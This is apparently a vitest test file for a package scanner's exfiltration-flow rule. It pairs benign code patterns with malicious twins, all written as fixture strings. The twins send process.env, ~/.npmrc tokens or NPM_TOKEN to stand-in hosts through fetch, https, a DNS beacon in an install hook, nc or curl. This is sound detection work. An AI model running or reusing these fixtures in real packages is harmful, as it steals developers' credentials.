import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';

const RULE = 'exfiltration-flow';

describe('exfiltration-flow reports', () => {
  test('env serialized through a helper and an object write reaches a request body, with the path', () => {
    const r = scanFiles({
      'index.js': [
        "const https = require('https');",
        'function pack(x) { return Buffer.from(JSON.stringify(x)).toString("base64"); }',
        'const payload = {};',
        'payload.data = pack(process.env);',
        "const req = https.request({ hostname: 'collector.invalid', method: 'POST' });",
        'req.end(JSON.stringify(payload));',
      ].join('\n'),
    });
    const [f] = r.of(RULE);
    expect(f?.severity).toBe('critical');
    expect(f?.signals).toContain('flow:secret');
    expect(f?.message).toContain('process.env');
    expect(f?.message).toMatch(/index\.js:4.*index\.js:6/);
    expect(r.verdict).toBe('malicious');
  });

  test('a credential file read in a callback flows to fetch', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node index.js' } }),
      'index.js': "const fs = require('fs'); const os = require('os');\nfs.readFile(os.homedir() + '/.npmrc', 'utf8', (err, data) => {\n  fetch('https://collector.invalid/x', { method: 'POST', body: data });\n});",
    });
    expect(r.of(RULE)[0]?.message).toMatch(/npm auth token file.*callback parameter data.*fetch/);
    expect(r.of(RULE)[0]?.reach).toBe('install');
    expect(r.verdict).toBe('malicious');
  });

  test('a source returned from one module and sent from another is followed across files', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node index.js' } }),
      'lib/collect.js': 'module.exports = () => ({ all: process.env });',
      'index.js': "const collect = require('./lib/collect');\nrequire('https').request('https://collector.invalid').end(JSON.stringify(collect()));",
    });
    const [f] = r.of(RULE);
    expect(f?.message).toContain('lib/collect.js:1');
    expect(f?.message).toContain('index.js:2');
    expect(r.verdict).toBe('malicious');
  });

  test('host identity in a DNS name at install is a fingerprint flow', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { preinstall: 'node beacon.js' } }),
      'beacon.js': "const os = require('os'); const dns = require('dns');\nconst label = Buffer.from(os.hostname()).toString('hex');\ndns.lookup(label + '.collector.invalid', () => {});",
    });
    expect(r.of(RULE)[0]?.signals).toContain('flow:fingerprint');
    expect(r.verdict).toBe('malicious');
  });
});

describe('exfiltration-flow stays quiet', () => {
  test('an SDK sending its own API key to its own host is low and clean', () => {
    const r = scanFiles({
      'index.js': "module.exports = async (prompt) => fetch('https://api.example-llm.com/v1/complete', { method: 'POST', headers: { authorization: 'Bearer ' + process.env.EXAMPLE_API_KEY }, body: JSON.stringify({ prompt }) });",
    });
    for (const f of r.of(RULE)) expect(f.severity).toBe('low');
    expect(r.verdict).toBe('clean');
  });

  test('a call of a same-named local in another scope does not feed the function of that name', () => {
    // Minified bundles reuse one-letter names in every function: this C is a local, not the C that fetches.
    const r = scanFiles({
      'index.js': [
        "function C(e, t) { return fetch('https://api.example.com/log', { method: 'POST', body: JSON.stringify(t) }); }",
        'exports.report = (e) => C(e, { at: Date.now() });',
        'exports.render = (b) => {',
        '  const { taintObjectReference: C } = b;',
        "  C('Do not pass process.env to client components', process.env);",
        '};',
      ].join('\n'),
    });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('the same call in the scope of the function that fetches is a flow', () => {
    const r = scanFiles({
      'index.js': [
        "function C(e, t) { return fetch('https://collector.invalid/log', { method: 'POST', body: JSON.stringify(t) }); }",
        "exports.render = () => C('startup', process.env);",
      ].join('\n'),
    });
    expect(r.of(RULE)[0]?.severity).toBe('critical');
    expect(r.of(RULE)[0]?.message).toMatch(/passed to C\(\)/);
  });

  test('passing the environment to a child process is not a flow', () => {
    const r = scanFiles({ 'index.js': "const { spawn } = require('child_process');\nspawn('git', ['status'], { env: { ...process.env, GIT_TERMINAL_PROMPT: '0' } });" });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('reading env without sending it anywhere is not a flow', () => {
    const r = scanFiles({ 'index.js': "const cfg = JSON.stringify(process.env);\nrequire('fs').writeFileSync('debug.json', cfg);" });
    expect(r.of(RULE)).toEqual([]);
  });

  test('a dynamic single-variable read is not the whole environment', () => {
    const r = scanFiles({ 'index.js': "module.exports = (name) => fetch('https://api.example.com/?v=' + process.env[name]);" });
    expect(r.of(RULE)).toEqual([]);
  });
});

/**
 * False-positive classes seen on real bundles (vite, deploy CLIs), each next to its malicious twin.
 * The clean side must stay clean; the twin must stay malicious.
 */
describe('exfiltration-flow follows data, not names', () => {
  const critical = (r: ReturnType<typeof scanFiles>) => r.of(RULE).filter((f) => f.severity === 'critical');

  // A dotenv-style expander fills its own `options` with variables; an unrelated socket helper of
  // the same bundle calls its parameter `options` too.
  const expander = [
    "const net = require('net');",
    'function expand(options) {',
    '  const env = { ...process.env };',
    '  for (const key in options.parsed) options.parsed[key] = env[key] || options.parsed[key];',
    '  return options;',
    '}',
    'function connect(options) {',
    '  options.path = options.socketPath;',
    '  return net.connect(options);',
    '}',
    'module.exports = { expand, connect };',
  ];
  test('writes into one function\'s `options` are not another same-named object\'s', () => {
    const r = scanFiles({ 'index.js': expander.join('\n') });
    expect(critical(r)).toEqual([]);
    expect(r.verdict).not.toBe('malicious');
  });
  test('twin: the environment stored into the options a socket is opened with is caught', () => {
    const r = scanFiles({
      'index.js': [
        "const net = require('net');",
        'function connect(options) {',
        '  options.path = options.socketPath;',
        '  options.env = JSON.stringify(process.env);',
        '  return net.connect(options);',
        '}',
        "connect({ host: 'collector.invalid', port: 443 });",
      ].join('\n'),
    });
    expect(critical(r)[0]?.message).toMatch(/stored into options\.env/);
    expect(r.verdict).toBe('malicious');
  });
  test('twin: the environment stored into an options object passed to a sending helper is caught', () => {
    const r = scanFiles({
      'index.js': [
        "const net = require('net');",
        'function send(options) { return net.connect(options); }',
        "const o = { host: 'collector.invalid' };",
        'o.payload = Buffer.from(JSON.stringify(process.env)).toString("base64");',
        'send(o);',
      ].join('\n'),
    });
    expect(critical(r)[0]?.message).toMatch(/stored into o\.payload.*passed to send\(\)/);
    expect(r.verdict).toBe('malicious');
  });

  // `settings.env` holds the environment; the tunnel helper is handed the settings but reads only
  // `options.live` from its destructured argument.
  const handler = (reads: string) => [
    'async function tunnel({ options, settings }) {',
    `  const body = ${reads};`,
    "  return fetch('https://api.example.invalid/tunnels', { method: 'POST', body: JSON.stringify(body) });",
    '}',
    'async function dev(options) {',
    '  const settings = { port: 8888 };',
    '  settings.env = { ...process.env, ...settings.env };',
    '  await tunnel({ options, settings });',
    '}',
    'module.exports = dev;',
  ].join('\n');
  test('a field of a destructured argument is not its sibling field', () => {
    const r = scanFiles({ 'index.js': handler('{ slug: options.live, port: settings.port }') });
    expect(critical(r)).toEqual([]);
    expect(r.verdict).not.toBe('malicious');
  });
  test('twin: the sibling that holds the environment, sent, is caught', () => {
    const r = scanFiles({ 'index.js': handler('{ slug: options.live, env: settings.env }') });
    expect(critical(r)[0]?.message).toMatch(/stored into settings\.env/);
    expect(r.verdict).toBe('malicious');
  });

  // A CLI keeps its token in process.env and hands its own argv to curl for a `curl` subcommand.
  test('a value stored into one field of process does not taint process.argv', () => {
    const r = scanFiles({
      'index.js': [
        "const { spawn } = require('child_process');",
        'const token = process.env.EXAMPLE_AUTH_TOKEN;',
        'process.env.EXAMPLE_TOKEN = token;',
        "const i = process.argv.indexOf('--');",
        'const flags = process.argv.slice(i + 1);',
        "spawn('curl', flags, { stdio: 'inherit' });",
      ].join('\n'),
    });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).not.toBe('malicious');
  });
  test('twin: the environment stored into a field of process and handed to curl is caught', () => {
    const r = scanFiles({
      'index.js': [
        "const { spawn } = require('child_process');",
        'process.collected = JSON.stringify(process.env);',
        "spawn('curl', ['-d', process.collected, 'https://collector.invalid/x']);",
      ].join('\n'),
    });
    expect(critical(r)[0]?.message).toMatch(/stored into process\.collected/);
    expect(r.verdict).toBe('malicious');
  });

  test('a command that merely mentions a network word is not a network command', () => {
    const r = scanFiles({
      'index.js': [
        "const { execFileSync } = require('child_process');",
        "execFileSync('docker', ['run', '--network', 'host', '-e', 'TOKEN=' + process.env.REGISTRY_TOKEN, 'img']);",
        "execFileSync('git', ['-c', 'http.extraHeader=' + process.env.GIT_AUTH_TOKEN, 'fetch']);",
      ].join('\n'),
    });
    expect(r.of(RULE)).toEqual([]);
  });
  test('a token handed to curl for a URL the user gives is a medium finding, not theft', () => {
    const r = scanFiles({
      'index.js': [
        "const { spawn } = require('child_process');",
        "const url = process.argv[2];",
        "spawn('curl', ['-H', 'x-bypass: ' + process.env.EXAMPLE_BYPASS_SECRET, url]);",
      ].join('\n'),
    });
    expect(r.of(RULE).map((f) => f.severity)).toEqual(['medium']);
    expect(r.verdict).not.toBe('malicious');
  });
  test('twin: a token sent down a raw socket with nc, or the environment with curl, is critical', () => {
    const r = scanFiles({
      'index.js': [
        "const { exec, spawn } = require('child_process');",
        "exec('echo ' + process.env.NPM_TOKEN + ' | nc 203.0.113.7 4444');",
        "spawn('sh', ['-c', 'curl -d ' + JSON.stringify(process.env) + ' https://collector.invalid']);",
      ].join('\n'),
    });
    expect(critical(r).map((f) => f.message)).toEqual([expect.stringMatching(/NPM_TOKEN.*shell network command/), expect.stringMatching(/every environment variable.*shell network command/)]);
    expect(r.verdict).toBe('malicious');
  });

  test('a call to a global of the same name is not a call of a nested function', () => {
    const r = scanFiles({
      'index.js': [
        "const net = require('net');",
        'function a() { function t(e) { return net.connect(e); } return t({ port: 1 }); }',
        'if (typeof t === "function") t(JSON.stringify(process.env));',
        'module.exports = a;',
      ].join('\n'),
    });
    expect(critical(r)).toEqual([]);
  });
});

describe('exfiltration-flow: a key and its fallback are one key', () => {
  const hub = (pick: string) => [
    'async function get(url) {',
    '  const headers = new Headers();',
    `  const token = ${pick};`,
    "  if (token) headers.set('Authorization', `Bearer ${token}`);",
    '  return fetch(url, { headers });',
    '}',
    'module.exports = get;',
  ].join('\n');
  test('`KEY ?? LEGACY_KEY` sent with a request is not a bundle of secrets', () => {
    const r = scanFiles({ 'index.js': hub('process.env.HF_TOKEN ?? process.env.HF_ACCESS_TOKEN') });
    expect(r.of(RULE).filter((f) => f.severity === 'critical')).toEqual([]);
    expect(r.verdict).not.toBe('malicious');
  });
  test('twin: the key sent together with another secret is a bundle', () => {
    const r = scanFiles({ 'index.js': hub('process.env.HF_TOKEN + ":" + process.env.AWS_SECRET_ACCESS_KEY') });
    expect(r.of(RULE).some((f) => f.severity === 'critical' && /bundled with/.test(f.message))).toBe(true);
    expect(r.verdict).toBe('malicious');
  });
});
